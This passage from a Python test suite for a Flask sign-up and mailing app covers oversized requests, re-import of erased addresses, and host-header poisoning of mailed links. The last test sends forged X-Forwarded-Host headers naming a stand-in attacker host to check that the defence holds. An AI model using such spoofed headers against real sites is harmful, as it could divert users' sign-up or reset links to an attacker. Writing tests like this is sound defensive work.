    client.set_cookie(cookie_name, _cookie_serializer(real_key).dumps(session))
    assert client.get("/admin/users").status_code == 200


# --- Oversized requests -------------------------------------------------------------------


def test_an_oversized_request_to_a_public_form_is_refused_unread(tmp_path):
    app = make_app(tmp_path, MAX_CONTENT_LENGTH=16 * 1024)
    visitor = app.test_client()
    for url, field in (("/signup", "given_name"), ("/new-link", "email")):
        data = signup_form(app) if url == "/signup" else {}
        data |= {"csrf_token": csrf_token(visitor, url), field: "x" * 20_000}
        response = visitor.post(url, data=data)
        assert response.status_code == 413, url
        assert "<h1>" in response.get_data(as_text=True)  # the site's own error page
    assert _count(app, Contact) == 0
    assert outbox_messages(app) == []


# --- Erased people stay erased ------------------------------------------------------------


def _mails_to(app: Flask, address: str) -> int:
    return sum(address in str(message["To"]).lower() for message in outbox_messages(app))


def test_an_address_whose_owner_erased_it_cannot_come_back_through_an_import(app, runner, tmp_path):
    visitor = app.test_client()
    preferences = _subscriber(app, visitor, "zoe.mueller@example.org")
    erase = f"{preferences}/erase"
    response = visitor.post(erase, data={"csrf_token": csrf_token(visitor, erase)})
    assert response.status_code == 200
    mailed_before = _mails_to(app, "zoe.mueller@example.org")
    content = csv_bytes([row("Zoe.Mueller@Example.org", "Zoë", "Müller"), row("new@example.org")])

    editor = staff_client(app, "editor")
    url = preview_url(upload(editor, content))
    page = html.unescape(_page(editor, url))
    assert "asked for their data to be erased" in page
    commit(editor, url)
    path = write(tmp_path, "old-list.csv", content)
    result = runner.invoke(args=["contacts", "import", str(path), "--status", "pending"])
    assert result.exit_code == 0, result.output
    assert "asked for their data to be erased" in result.output

    assert _contact(app, "zoe.mueller@example.org") is None
    assert _contact(app, "new@example.org") is not None
    assert _mails_to(app, "zoe.mueller@example.org") <= mailed_before  # nothing new for her


# --- Links in mail ------------------------------------------------------------------------


def test_mailed_links_use_base_url_whatever_host_the_request_names(app):
    """Password-reset poisoning, applied to sign-up links: a request naming another host
    must not make the app mail a link to it."""
    attacker = app.test_client()
    evil = {"base_url": "http://evil.example", "headers": {"X-Forwarded-Host": "evil.example"}}
    page = attacker.get("/signup", **evil).get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    data = signup_form(app, email="zoe@example.org", csrf_token=token)
    assert attacker.post("/signup", data=data, **evil).status_code == 302
    _activate(app, "zoe@example.org")
    assert attacker.post("/signup", data=data, **evil).status_code == 302
    data = {"csrf_token": token, "email": "zoe@example.org"}
    assert attacker.post("/new-link", data=data, **evil).status_code == 302
    messages = outbox_messages(app)
    assert len(messages) == 3
    for message in messages:
        for body in (text_body(message), html_body(message)):
            links = re.findall(r"https?://[^\s\"'<>]+", body)
            assert links and all(link.startswith("http://jeg.test/") for link in links), links
            assert "evil.example" not in body
